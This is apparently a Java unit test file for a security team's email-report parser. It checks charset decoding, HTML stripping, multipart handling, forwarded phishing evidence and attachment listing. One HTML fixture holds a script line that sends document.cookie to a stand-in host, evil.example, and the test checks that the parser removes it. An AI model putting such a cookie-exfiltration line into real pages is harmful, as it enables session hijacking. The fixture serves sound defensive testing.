package org.csirtgateway.parse;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Properties;
import java.util.Random;

import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import org.csirtgateway.testing.RawMail;
import org.junit.jupiter.api.Test;

/**
 * What the parser reads out of one raw message: decoded headers and readable text, whatever charset, structure or
 * damage the reporter's mail system produced. Malformed mail is read as far as it goes, with warnings, never rejected.
 */
class ReportParserBasicsTest {

    private static final String TEAM = "csirt@example.org";

    @Test
    void japaneseIso2022JpSubjectAndBodyDecode() throws Exception {
        MimeMessage mail = new MimeMessage(Session.getInstance(new Properties()));
        mail.setFrom(new InternetAddress("tanaka@example.jp", "田中 太郎", "ISO-2022-JP"));
        mail.setRecipient(jakarta.mail.Message.RecipientType.TO, new InternetAddress(TEAM));
        mail.setSubject("フィッシングサイトの報告", "ISO-2022-JP");
        mail.setText("偽の銀行サイトを見つけました。\nご確認ください。\n", "ISO-2022-JP");
        mail.saveChanges();
        ByteArrayOutputStream raw = new ByteArrayOutputStream();
        mail.writeTo(raw);
        assertThat(raw.toString(StandardCharsets.US_ASCII)).as("the test mail is really ISO-2022-JP on the wire")
                .contains("charset=ISO-2022-JP").doesNotContain("フィッシング");

        ParsedReport report = RawMail.parse(raw.toByteArray());

        assertThat(report.subject()).isEqualTo("フィッシングサイトの報告");
        assertThat(report.bodyText().lines()).containsExactly("偽の銀行サイトを見つけました。", "ご確認ください。");
        assertThat(report.fromName()).isEqualTo("田中 太郎");
        assertThat(report.fromAddress()).isEqualTo("tanaka@example.jp");
        assertThat(report.warnings()).isEmpty();
    }

    @Test
    void undeclaredUtf8BodyIsReadAsUtf8WithAWarning() {
        byte[] raw = ("From: a@example.org\r\nSubject: x\r\n\r\nGrüße – 報告").getBytes(StandardCharsets.UTF_8);

        ParsedReport report = RawMail.parse(raw);

        assertThat(report.bodyText()).isEqualTo("Grüße – 報告");
        assertThat(report.warnings()).anySatisfy(warning -> assertThat(warning).contains("UTF-8"));
    }

    @Test
    void htmlOnlyReportBecomesPlainTextWithoutMarkup() {
        String html = """
                <html><head><title>Secure Bank</title><style>p { color: red }</style>
                <script type="text/javascript">alert('owned')</script></head>
                <body><p>Phishing at <a href="http://phish.example/">phish.example</a> &amp; its mirror</p>
                <!-- tracking comment -->
                <p>Tom &quot;the victim&quot; &#39;lost&#39; &#x20AC;100&nbsp;today &AMP; 1 &lt; 2.</p><br>
                <SCRIPT>document.location='http://evil.example/?'+document.cookie</SCRIPT >
                <div>Unknown &bogus; entity stays as written, an out-of-range &#99999999999; one is replaced.</div>
                </body></html>""";
        ParsedReport report = RawMail.from("alice@victim.example")
                .header("Content-Type", "text/html; charset=UTF-8").body(html).parse();

        assertThat(report.bodyText())
                .contains("Phishing at phish.example <http://phish.example/> & its mirror")
                .contains("Tom \"the victim\" 'lost' €100 today & 1 < 2.")
                .contains("Unknown &bogus; entity stays as written, an out-of-range \uFFFD one is replaced.")
                .doesNotContain("alert", "owned", "color: red", "tracking comment", "document", "Secure Bank",
                        "&amp;", "&quot;", "&nbsp;")
                .as("no markup, only a link's target in angle brackets")
                .doesNotContainPattern("<(?!http://phish\\.example/>)\\s*/?\\s*[A-Za-z!]");
    }

    @Test
    void plainTextAlternativeIsPreferredOverHtml() {
        String body = """
                --alt
                Content-Type: text/html; charset=UTF-8

                <p>HTML version</p>
                --alt
                Content-Type: text/plain; charset=UTF-8

                Plain version
                --alt--
                """.replace("\n", "\r\n");
        ParsedReport report = RawMail.from("alice@victim.example")
                .header("Content-Type", "multipart/alternative; boundary=alt").body(body).parse();

        assertThat(report.bodyText()).isEqualTo("Plain version");
    }

    @Test
    void htmlRootAfterAnInlineImageIsRead() {
        // Outlook and web mailers send HTML with inline images as multipart/related; the image may come first.
        String body = """
                --rel
                Content-Type: image/png
                Content-Transfer-Encoding: base64
                Content-Location: image1

                iVBORw0KGgo=
                --rel
                Content-Type: text/html; charset=UTF-8

                <p>Our web server at 192.0.2.10 was defaced.</p>
                --rel--
                """.replace("\n", "\r\n");
        ParsedReport report = RawMail.from("alice@victim.example")
                .header("Content-Type", "multipart/related; type=\"text/html\"; boundary=rel").body(body).parse();

        assertThat(report.bodyText()).isEqualTo("Our web server at 192.0.2.10 was defaced.");
        assertThat(report.attachments()).containsExactly("image/png");
    }

    @Test
    void htmlPartNextToPlainTextDoesNotDuplicateTheTextButIsKeptAsAnAttachment() {
        String body = """
                --mix
                Content-Type: text/plain; charset=UTF-8

                See the page below.
                --mix
                Content-Type: text/html; charset=UTF-8

                <p>Saved copy of the phishing page</p>
                --mix--
                """.replace("\n", "\r\n");
        ParsedReport report = RawMail.from("alice@victim.example")
                .header("Content-Type", "multipart/mixed; boundary=mix").body(body).parse();

        assertThat(report.bodyText()).isEqualTo("See the page below.");
        assertThat(report.attachments()).containsExactly("text/html");
        assertThat(report.details().attachments()).singleElement()
                .satisfies(page -> assertThat(page.text()).isEqualTo("Saved copy of the phishing page"));
        assertThat(report.searchableText()).contains("Saved copy of the phishing page");
    }

    @Test
    void forwardedMessageIsEvidenceWithDecodedSubjectAndTheSendersDisplayName() {
        String body = """
                --fwd
                Content-Type: text/plain; charset=UTF-8

                Forwarding the phishing mail our staff received.
                --fwd
                Content-Type: message/rfc822

                From: "Bank Support" <support@phish.example>
                To: staff@victim.example
                Subject: =?UTF-8?Q?Your_account_is_locked_=E2=80=93_verify_now?=
                Message-ID: <phish-1@phish.example>
                Content-Type: text/plain; charset=UTF-8

                Click hxxp://phish.example/verify to unlock your account.
                --fwd--
                """.replace("\n", "\r\n");
        ParsedReport report = RawMail.from("alice@victim.example")
                .header("Content-Type", "multipart/mixed; boundary=fwd").body(body).parse();

        assertThat(report.bodyText()).isEqualTo("Forwarding the phishing mail our staff received.");
        assertThat(report.details().evidence()).singleElement().satisfies(forwarded -> {
            assertThat(forwarded.from()).as("the display name is often the lie, so it is kept")
                    .isEqualTo("Bank Support <support@phish.example>");
            assertThat(forwarded.subject()).isEqualTo("Your account is locked – verify now");
            assertThat(forwarded.messageId()).isEqualTo("phish-1@phish.example");
            assertThat(forwarded.bodyText()).isEqualTo("Click hxxp://phish.example/verify to unlock your account.");
        });
        assertThat(report.searchableText()).contains("From: Bank Support <support@phish.example>",
                "Subject: Your account is locked – verify now", "hxxp://phish.example/verify");
        assertThat(report.messageId()).as("the outer message's ID, not the forwarded one")
                .isEqualTo("report-1@victim.example");
        assertThat(report.attachments()).isEmpty();
    }

    @Test
    void attachmentNamesAreListed() {
        String body = """
                --mix
                Content-Type: text/plain; charset=UTF-8

                Malware sample and logs attached.
                --mix
                Content-Type: application/octet-stream; name="invoice.pdf.exe"
                Content-Disposition: attachment; filename="invoice.pdf.exe"
                Content-Transfer-Encoding: base64

                TVqQAAMAAAAEAAAA
                --mix
                Content-Type: text/plain; charset=UTF-8
                Content-Disposition: attachment; filename="access.log"

                192.0.2.7 - - [03/Mar/2026:10:00:00 +0900] "GET /wp-login.php HTTP/1.1" 200
                --mix
                Content-Type: application/zip

                UEsDBAoAAAAAAA==
                --mix--
                """.replace("\n", "\r\n");
        ParsedReport report = RawMail.from("alice@victim.example")
                .header("Content-Type", "multipart/mixed; boundary=mix").body(body).parse();

        assertThat(report.attachments()).containsExactly("invoice.pdf.exe", "access.log", "application/zip");
        assertThat(report.bodyText()).as("an attached text file is an attachment, not the report")
                .isEqualTo("Malware sample and logs attached.");
    }

    @Test
    void messageIdsAreStrippedOfBrackets() {
        ParsedReport report = RawMail.from("alice@victim.example")
                .messageId("  <reply-2@victim.example>")
                .header("In-Reply-To", "<ack-1.CSIRT2026-000001@example.org>")
                .header("References", "<report-1@victim.example>\r\n <ack-1.CSIRT2026-000001@example.org>")
                .parse();

        assertThat(report.messageId()).isEqualTo("reply-2@victim.example");
        assertThat(report.inReplyTo()).containsExactly("ack-1.CSIRT2026-000001@example.org");
        assertThat(report.references())
                .containsExactly("report-1@victim.example", "ack-1.CSIRT2026-000001@example.org");
    }

    @Test
    void missingMessageIdIsNullAndUnbracketedOneIsKept() {
        assertThat(RawMail.from("alice@victim.example").without("Message-ID").parse().messageId()).isNull();
        assertThat(RawMail.from("alice@victim.example").messageId("bare-id@victim.example").parse().messageId())
                .isEqualTo("bare-id@victim.example");
    }

    @Test
    void nullReturnPathIsRecognised() {
        assertThat(RawMail.from("mailer-daemon@mx.example").header("Return-Path", "<>").parse().returnPath())
                .isEmpty();
        assertThat(RawMail.from("alice@victim.example").header("Return-Path", " <Alice@Victim.Example>").parse()
                .returnPath()).isEqualTo("alice@victim.example");
        assertThat(RawMail.from("alice@victim.example").parse().returnPath()).isNull();
    }

    @Test
    void senderDateAndRobotHeadersAreRead() {
        ParsedReport report = RawMail.from("\"Alice Example\" <Alice@Victim.Example>")
                .header("Auto-Submitted", "auto-generated")
                .header("List-Id", "<abuse-reports.lists.example>")
                .header("X-Mailer", "not a robot header")
                .parse();

        assertThat(report.fromAddress()).isEqualTo("alice@victim.example");
        assertThat(report.fromName()).isEqualTo("Alice Example");
        assertThat(report.sender()).isEqualTo("Alice Example <alice@victim.example>");
        assertThat(report.sentAt()).isEqualTo(Instant.parse("2026-03-03T01:15:00Z"));
        assertThat(report.robotHeaders()).containsOnly(
                org.assertj.core.api.Assertions.entry("auto-submitted", "auto-generated"),
                org.assertj.core.api.Assertions.entry("list-id", "<abuse-reports.lists.example>"));
    }

    @Test
    void garbageBytesDoNotThrowButYieldWarningsOrEmptyText() throws Exception {
        byte[] random = new byte[64 * 1024];
        new Random(20260303L).nextBytes(random);
        byte[][] inputs = {
            random,
            new byte[0],
            "From: a@example.org\r\nSubject: header only, no blank line, no body".getBytes(StandardCharsets.US_ASCII),
            "this is not a header\r\nneither is this\r\n\r\nbody".getBytes(StandardCharsets.US_ASCII),
            new byte[] {0, 0, 0, '\r', '\n', '\r', '\n', 0},
            ("From: <<<@>>>\r\nDate: yesterday-ish\r\nContent-Type: multipart/mixed; boundary=\r\n"
                    + "Content-Transfer-Encoding: base64\r\n\r\n%%% not base64 %%%")
                    .getBytes(StandardCharsets.US_ASCII),
        };
        for (byte[] input : inputs) {
            ParsedReport report = new ReportParser().parse(new ByteArrayInputStream(input));

            assertThat(report.warnings().isEmpty() && !report.bodyText().isEmpty())
                    .as("a garbage input yields warnings or no text: %s", report)
                    .isFalse();
            assertThat(report.sender()).isNotNull();
        }
    }

    @Test
    void emptyInputIsAnEmptyReportWithoutSender() throws Exception {
        ParsedReport report = new ReportParser().parse(new ByteArrayInputStream(new byte[0]));

        assertThat(report.subject()).isEmpty();
        assertThat(report.bodyText()).isEmpty();
        assertThat(report.fromAddress()).isNull();
        assertThat(report.sender()).isEqualTo("(unknown sender)");
        assertThat(report.warnings()).contains("No readable From address");
    }
}
